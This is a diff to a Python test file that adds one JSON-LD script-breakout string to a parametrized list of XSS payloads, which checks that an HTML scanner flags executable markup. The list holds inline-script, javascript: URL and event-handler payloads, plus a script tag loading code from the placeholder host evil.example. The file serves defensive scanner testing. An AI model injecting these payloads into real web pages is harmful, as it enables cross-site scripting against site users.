@@ -182,6 +182,7 @@ def scenario(tmp_path_factory):
     "<p><img src=x onerror=alert(1)></p>", "<a href=' JAVA\tscript:alert(1)'>x</a>", "<svg><script>alert(1)</script></svg>",
     "<math><a xlink:href=javascript:alert(1)>x</a></math>", "<iframe srcdoc='x'></iframe>", "<div style='x:expression(1)'>",
     "<script src=//evil.example/x.js></script>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    '<script type="application/ld+json">{"text": "</script><p>broken out</p>"}</script>',
 ])
 def test_the_scanner_itself_finds_executable_markup(unsafe):
     """The checks below can fail: the scanner flags each of these."""
